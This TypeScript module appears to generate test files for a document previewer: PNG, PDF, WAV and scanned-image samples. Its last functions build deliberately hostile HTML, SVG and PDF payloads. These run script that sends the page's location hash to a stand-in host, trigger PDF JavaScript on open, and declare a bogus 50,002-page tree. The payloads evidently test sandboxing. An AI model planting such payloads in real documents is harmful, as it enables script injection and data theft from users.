/** Pictures, documents and sounds made on the fly, so that none has to be kept. */

import { deflateSync } from 'node:zlib';

/** Sand, sea and sky as a PNG of 8-bit RGB. Source: PNG, third edition, sections 5 and 11. */
export function pictureOf(width: number, height: number): Buffer<ArrayBuffer> {
  const rows = Buffer.alloc(height * (1 + 3 * width));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const wave = height * (0.62 + 0.02 * Math.sin(x / 40));
      const at = y * (1 + 3 * width) + 1 + 3 * x;
      const shade = y / height;
      const sun = Math.hypot(x - width * 0.7, y - height * 0.3) < height * 0.1;
      if (sun) rows.set([250, 214, 120], at);
      else if (y > height * 0.8 - x / 30) rows.set([226, 200 - 30 * shade, 150], at);
      else if (y > wave) rows.set([40, 110 + 40 * shade, 130 + 30 * shade], at);
      else rows.set([150 + 60 * shade, 195 + 30 * shade, 220], at);
    }
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const parts = [
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...parts]);
}

function chunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const whole = Buffer.alloc(8 + content.length + 4);
  whole.writeUInt32BE(content.length, 0);
  typed.copy(whole, 4);
  whole.writeUInt32BE(crc32(typed), 8 + content.length);
  return whole;
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** What a test wants in a document besides its line, each in the words of PDF. */
interface Additions {
  readonly inCatalog?: string;
  readonly inPage?: string;
  readonly inResources?: string;
  /** After the line, on the page. */
  readonly drawn?: string;
  /** In place of one. */
  readonly pages?: string;
  /** In place of Helvetica. */
  readonly font?: string;
  /** Numbered from 6 on. */
  readonly objects?: readonly string[];
}

/** One page with one line. Source: ISO 32000-1, sections 7.5 and 9. */
export function pdfOf(line: string, more: Additions = {}): Buffer<ArrayBuffer> {
  const { inCatalog = '', inPage = '', inResources = '', drawn = '', objects: others = [] } = more;
  const { pages = '/Kids [3 0 R] /Count 1' } = more;
  const shown = line.startsWith('<') ? line : `(${line})`;
  const text = `BT /F1 28 Tf 60 700 Td ${shown} Tj ET ${drawn}`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${inCatalog} >>`,
    `<< /Type /Pages ${pages} >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ' +
      `/Resources << /Font << /F1 5 0 R >> ${inResources} >> ${inPage} >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    more.font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...others,
  ];
  let pdf = '%PDF-1.4\n';
  const places = objects.map((object, at) => {
    const place = pdf.length;
    pdf += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return String(place).padStart(10, '0');
  });
  const start = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  pdf += places.map((place) => `${place} 00000 n \n`).join('');
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

/** Sixty-four black lines of sixty-four, as fax machines code them. Source: ITU-T T.6. */
function blackFax(): Buffer {
  const first = '001' + '00110101' + '0000001111' + '0000110111';
  const same = '11'.repeat(63);
  const bits = first + same + '000000000001'.repeat(2);
  const bytes = bits.padEnd(Math.ceil(bits.length / 8) * 8, '0').match(/.{8}/g) ?? [];
  return Buffer.from(bytes.map((byte) => Number.parseInt(byte, 2)));
}

/** The same in two segments, the second of them coded as a fax. Source: ITU-T T.88, sections 7.2 to 7.4. */
function blackJbig2(): Buffer {
  const side = '00000040';
  const pageInfo = `${side}${side}${'00'.repeat(8)}000000`;
  const region = `${side}${side}${'00'.repeat(8)}0001${blackFax().toString('hex')}`;
  return Buffer.concat([segment(0, '30', pageInfo), segment(1, '26', region)]);
}

function segment(number: number, type: string, data: string): Buffer {
  const length = (data.length / 2).toString(16).padStart(8, '0');
  return Buffer.from(`0000000${number}${type}0001${length}${data}`, 'hex');
}

/** Eight by eight pixels of a dark grey, by OpenJPEG. Source: ITU-T T.800, annex A. */
const DARK_JPX = Buffer.from(
  'ff4fff510029000000000008000000080000000000000000000000080000000800000000000000000001070101' +
    'ff52000c00000001000004040001ff5c00044040ff90000a00000000001e0001ff93' +
    'cfb434115054a2835628000000309097ffd9',
  'hex',
);

const SCANS = {
  jbig2: { filter: '/JBIG2Decode', side: 64, bits: 1, bytes: blackJbig2() },
  fax: {
    filter: '/CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 >>',
    side: 64,
    bits: 1,
    bytes: blackFax(),
  },
  jpx: { filter: '/JPXDecode', side: 8, bits: 8, bytes: DARK_JPX },
} as const;

/** A dark square in the middle of a page, coded as scanners do. */
export function scanOf(kind: keyof typeof SCANS): Buffer<ArrayBuffer> {
  const { filter, side, bits, bytes } = SCANS[kind];
  return pdfOf(`A scan by ${kind}`, {
    inResources: '/XObject << /I 6 0 R >>',
    drawn: 'q 400 0 0 400 97 221 cm /I Do Q',
    objects: [
      `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent ${bits} ` +
        `/ColorSpace /DeviceGray /Filter ${filter} /Length ${bytes.length} >>\n` +
        `stream\n${bytes.toString('latin1')}\nendstream`,
    ],
  });
}

/** Twice as many as the page fetches at once, with three times a range of pdf.js between them. */
const ALBUM_PICTURES = 8;
const ALBUM_GAP = 786_432;

/** Pictures on one page, each so far from the next that all are asked for at once, by ranges of their own. */
export function albumOf(line: string): Buffer<ArrayBuffer> {
  const between = `<< /Length ${ALBUM_GAP} >>\nstream\n${' '.repeat(ALBUM_GAP)}\nendstream`;
  const picture =
    '<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray ' +
    `/Length 64 >>\nstream\n${'0'.repeat(64)}\nendstream`;
  const numbers = Array.from({ length: ALBUM_PICTURES }, (_, at) => 7 + 2 * at);
  return pdfOf(line, {
    inResources: `/XObject << ${numbers.map((number) => `/I${number} ${number} 0 R`).join(' ')} >>`,
    drawn: numbers.map((number) => `q 20 0 0 20 ${20 * number} 400 cm /I${number} Do Q`).join(' '),
    objects: [...numbers.flatMap(() => [between, picture]), between],
  });
}

/** Two characters of a font that is not in the file, as Chinese documents name it. */
export function chinesePdf(): Buffer<ArrayBuffer> {
  return pdfOf('<4F60597D>', {
    font: '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >>',
    objects: [
      '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /FontDescriptor 7 0 R ' +
        '/CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>',
      '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 ' +
        '/Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>',
    ],
  });
}

/** One second of silence is 88,200 bytes: one channel of 16 bits. Source: RIFF, WAVE format 1. */
export function soundOf(size: number): Buffer<ArrayBuffer> {
  const sound = Buffer.alloc(size);
  sound.write('RIFF', 0);
  sound.writeUInt32LE(size - 8, 4);
  sound.write('WAVEfmt ', 8);
  sound.writeUInt32LE(16, 16);
  sound.writeUInt16LE(1, 20);
  sound.writeUInt16LE(1, 22);
  sound.writeUInt32LE(44_100, 24);
  sound.writeUInt32LE(88_200, 28);
  sound.writeUInt16LE(2, 32);
  sound.writeUInt16LE(16, 34);
  sound.write('data', 36);
  sound.writeUInt32LE(size - 44, 40);
  return sound;
}

/** What a stranger would run if anything let him: it marks its window and asks elsewhere. */
const TAKE =
  "window.taken=1;top.document.title='taken';fetch('https://elsewhere.example/'+top.location.hash)";

export function hostilePage(): Buffer<ArrayBuffer> {
  return Buffer.from(
    `<!doctype html><script>${TAKE}</script><img src="https://elsewhere.example/a" onerror="${TAKE}">` +
      `<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">`,
  );
}

export function hostilePicture(): Buffer<ArrayBuffer> {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="${TAKE}"><script>${TAKE}</script>` +
      '<style>@import url("https://elsewhere.example/b.css");</style>' +
      '<image href="https://elsewhere.example/c.png" width="9" height="9"/><rect width="9" height="9"/>' +
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${TAKE}"/></foreignObject></svg>`,
  );
}

/** A first and a last page, and between them what tells of many and has none. */
export function endlessPdf(): Buffer<ArrayBuffer> {
  return pdfOf('One of many', {
    pages: '/Kids [3 0 R 6 0 R 3 0 R] /Count 50002',
    objects: ['<< /Type /Pages /Kids [] /Count 50000 >>'],
  });
}

/** A script at its opening, a form's button, and a link over all of its page. */
export function hostilePdf(): Buffer<ArrayBuffer> {
  const script = `app.launchURL("https://elsewhere.example/d"); ${TAKE}`.replace(/[()\\]/g, '\\$&');
  return pdfOf('Press here', {
    inCatalog: `/OpenAction << /S /JavaScript /JS (${script}) >> /AcroForm << /Fields [6 0 R] >>`,
    inPage: '/Annots [6 0 R 7 0 R]',
    objects: [
      '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [60 600 260 640] /P 3 0 R ' +
        `/MK << /CA (Go) >> /A << /S /JavaScript /JS (${script}) >> >>`,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://elsewhere.example/e) >> >>',
    ],
  });
}
